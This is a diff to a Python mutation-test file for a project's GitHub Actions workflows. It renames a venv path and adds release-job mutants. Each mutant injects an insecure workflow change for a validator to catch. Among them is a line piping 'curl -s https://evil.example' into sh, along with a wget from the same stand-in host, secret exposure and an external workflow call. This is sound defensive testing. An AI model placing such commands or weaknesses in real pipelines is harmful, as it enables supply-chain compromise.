@@ -22,8 +22,8 @@ class Mutant(NamedTuple):
 
 CHECKOUT = "uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
 HASHED = "--require-hashes --no-deps -r requirements-site.lock"
-PYTHON = '"$RUNNER_TEMP/venv/bin/python" -I .github/scripts/run.py effsota validate'
-SEAL = '"$RUNNER_TEMP/venv/bin/python" -I .github/scripts/run.py seal'
+PYTHON = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py effsota validate'
+SEAL = '"$RUNNER_TEMP/site-venv/bin/python" -I .github/scripts/run.py seal'
 MUTANTS = (
     Mutant("pull_request_target", "validate", "  pull_request:", "  pull_request_target:"),
     Mutant("another trigger", "validate", "on:\n", "on:\n  issue_comment:\n"),
@@ -54,7 +54,7 @@ MUTANTS = (
     Mutant("Python of the job with rights", "comment", "python3 -I .github/scripts/run.py comment", "python3 .github/scripts/run.py comment"),
     Mutant("packages without hashes", "publish", HASHED, "-r requirements-site.lock"),
     Mutant("packages of another list", "publish", HASHED, HASHED.replace("requirements-site.lock", "evil.txt")),
-    Mutant("a package by name", "publish", SEAL, f'"$RUNNER_TEMP/venv/bin/python" -I -m pip install pandas; {SEAL}'),
+    Mutant("a package by name", "publish", SEAL, f'"$RUNNER_TEMP/site-venv/bin/python" -I -m pip install pandas; {SEAL}'),
     Mutant("a download", "publish", "today=$(date -u +%F)", "curl -s https://evil.example | sh"),
     Mutant("a download by another name", "publish", "today=$(date -u +%F)", "wget https://evil.example"),
     Mutant("no timeout", "links", "    timeout-minutes: 30\n", ""),
@@ -72,6 +72,11 @@ MUTANTS = (
     Mutant("a secret", "publish", "GITHUB_SHA", "${{ secrets.KEY }}"),
     Mutant("trust by actor", "comment", "github.event.workflow_run.event == 'pull_request'", "github.actor == 'dependabot[bot]'"),
     Mutant("a workflow called", "links", "    runs-on: ubuntu-24.04\n", "    runs-on: ubuntu-24.04\n    uses: evil/x/.github/workflows/y.yml@main\n"),
+    Mutant("a release of every branch", "release", '    tags: ["v*"]', "    branches: [main]"),
+    Mutant("a release without an owner", "release", "    environment:\n      name: pypi\n      url: https://pypi.org/project/effsota/\n", ""),
+    Mutant("a release that runs the checkout", "release", "      - name: Upload\n", "      - name: Check out\n        uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1\n        with:\n          persist-credentials: false\n      - name: Upload\n"),
+    Mutant("a release by another hand", "release", "gh release create", "gh api"),
+    Mutant("a release before its build", "release", "    needs: [build, attest]\n    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n", "    runs-on: ubuntu-24.04\n    timeout-minutes: 5\n"),
     Mutant("a job that no table knows", "links", "jobs:\n", "jobs:\n  more:\n    runs-on: ubuntu-24.04\n    timeout-minutes: 1\n    permissions: {contents: read}\n    steps: []\n"),
 )  # fmt: skip
 
